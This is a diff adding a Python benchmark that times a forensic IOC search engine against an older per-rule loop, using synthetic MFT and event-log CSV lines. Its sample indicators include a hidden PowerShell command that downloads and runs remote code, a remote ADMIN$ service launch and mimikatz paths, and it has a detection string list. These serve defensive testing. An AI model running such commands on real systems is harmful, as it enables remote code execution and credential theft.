@@ -0,0 +1,135 @@
+"""
+Compare the single pass search engine against the original per-rule loop.
+Both must find the same rows; the engine reports them in line order.
+
+python -m bench.bench_search --lines 200000
+"""
+import argparse
+import csv
+import random
+import re
+import tempfile
+import time
+from pathlib import Path
+
+from search.engine import RuleSet, plan_search, search_files, to_row
+
+RULES = Path(__file__).resolve().parent.parent / 'search' / 'regex.txt'
+
+# mix of lines that resemble MFTECmd/EvtxECmd output, with the odd IOC thrown in
+NOISE = [
+    '{n},1,True,5,.\\Windows\\System32\\DriverStore\\FileRepository\\netrtwlane.inf_amd64_{h},netrtwlane.sys,.sys,'
+    '2458624,1,,False,False,False,False,False,False,Archive,Windows,2019-12-07 09:09:56.1234567',
+    '{n},4624,Microsoft-Windows-Security-Auditing,Security,WORKSTATION{n},S-1-5-18,An account was successfully '
+    'logged on,Target: {h}\\Administrator,LogonType 3,C:\\Windows\\System32\\svchost.exe',
+    '{n},1,False,7,.\\Users\\jdoe\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cache\\f_{h},f_{h},,'
+    '10240,1,,False,False,False,False,False,False,Archive,,2021-03-11 14:22:01.0000000',
+]
+IOCS = [
+    '{n},1,True,2,C:\\Temp\\{h}.exe,{h}.exe,.exe,1024,1,,False',
+    '{n},7045,Service Control Manager,System,\\\\127.0.0.1\\ADMIN$\\abcdefg.exe,%COMSPEC% /b /c start',
+    '{n},4688,Security,powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString(\'http://x\')',
+    '{n},1,True,1,.\\ProgramData\\mimikatz\\{h}.dll,{h}.dll,.dll,4096',
+]
+
+
+def read_rules(rgx_file):
+    rgx_dict = {}
+    str_dict = {}
+    with rgx_file.open() as fh:
+        for row in csv.reader(fh, delimiter=';'):
+            if any(row):
+                if row[0] == '1':
+                    rgx_dict[row[1]] = row[2]
+                elif row[0] == '0':
+                    str_dict[row[1]] = row[2]
+    return rgx_dict, str_dict
+
+
+def make_csv(path, lines, ioc_rate, seed=1):
+    rnd = random.Random(seed)
+    with path.open('w', encoding='utf-8', newline='') as fh:
+        fh.write('EntryNumber,InUse,ParentEntryNumber,ParentPath,FileName,Extension,FileSize\n')
+        for n in range(lines):
+            pool = IOCS if rnd.random() < ioc_rate else NOISE
+            fh.write(rnd.choice(pool).format(n=n, h='%08x' % rnd.getrandbits(32)) + '\n')
+
+
+def legacy_find_hits(file_list, dict1, dict2):
+    """the per-rule loop find_hits used before the single pass engine"""
+    matches = []
+    for file in file_list:
+        for key, val in dict1.items():
+            if key == '[a-zA-Z0-9/+=]{500}' and 'history' in file.name.lower():
+                continue
+            try:
+                rgx = re.compile(key)
+            except Exception:
+                continue
+            with file.open('r', encoding='utf-8', errors='replace') as fh:
+                for line in fh:
+                    if rgx.search(line):
+                        matches.append([file.name, key, val, line])
+
+        for key, val in dict2.items():
+            with file.open('r', encoding='utf-8', errors='replace') as fh:
+                for line in fh:
+                    if key.lower() in line.lower():
+                        matches.append([file.name, key, val, line])
+    return matches
+
+
+def engine_find_hits(file_list, dict1, dict2, workers=1):
+    ruleset = RuleSet(dict1, dict2)
+    plan = plan_search(file_list, workers, chunk_size=2 ** 20)
+    return [to_row(file, ruleset, idx, line) for file, idx, line in search_files(plan, ruleset, workers)]
+
+
+def timed(func, *args):
+    start = time.perf_counter()
+    result = func(*args)
+    return result, time.perf_counter() - start
+
+
+def main():
+    parser = argparse.ArgumentParser(description='find_hits benchmark')
+    parser.add_argument('--lines', type=int, default=100000, help='lines in the generated CSV')
+    parser.add_argument('--ioc-rate', type=float, default=0.001, help='fraction of lines carrying an IOC')
+    parser.add_argument('--rules', type=str, default=str(RULES), help='rule file to benchmark with')
+    parser.add_argument('--strings', type=str, nargs='*', default=['mimikatz', 'psexesvc', 'ADMIN$'],
+                        help='extra string (0;) rules added to the rule file')
+    parser.add_argument('--workers', type=int, default=1, help='also time the process pool with this many workers')
+    args = parser.parse_args()
+
+    rgx_dict, str_dict = read_rules(Path(args.rules))
+    for s in args.strings:
+        str_dict.setdefault(s, f'bench string {s}')
+
+    with tempfile.TemporaryDirectory() as tmp:
+        files = [Path(tmp) / 'MFTECmd_$MFT_Output.csv', Path(tmp) / 'ConsoleHost_history.csv']
+        for i, f in enumerate(files):
+            make_csv(f, args.lines, args.ioc_rate, seed=i)
+        size = sum(f.stat().st_size for f in files) / 2 ** 20
+
+        legacy, t_legacy = timed(legacy_find_hits, files, rgx_dict, str_dict)
+        engine, t_engine = timed(engine_find_hits, files, rgx_dict, str_dict)
+        if args.workers > 1:
+            pool, t_pool = timed(engine_find_hits, files, rgx_dict, str_dict, args.workers)
+
+    print(f'{len(files)} files, {args.lines * len(files)} lines, {size:.1f} MiB, '
+          f'{len(rgx_dict)} regex + {len(str_dict)} string rules')
+    print(f'per-rule loop: {t_legacy:8.2f}s  {len(legacy)} hits')
+    print(f'single pass:   {t_engine:8.2f}s  {len(engine)} hits')
+    print(f'speedup:       {t_legacy / t_engine:8.2f}x')
+    if args.workers > 1:
+        print(f'{args.workers} workers:     {t_pool:8.2f}s  {len(pool)} hits  {t_legacy / t_pool:.2f}x')
+        if pool != engine:
+            raise SystemExit('output rows differ between the process pool and the single pass engine')
+    # the engine streams hits in line order, the old loop grouped them by rule
+    if sorted(legacy) != sorted(engine):
+        raise SystemExit('output rows differ between the per-rule loop and the single pass engine')
+    print('output rows identical')
+
+
+if __name__ == '__main__':
+    main()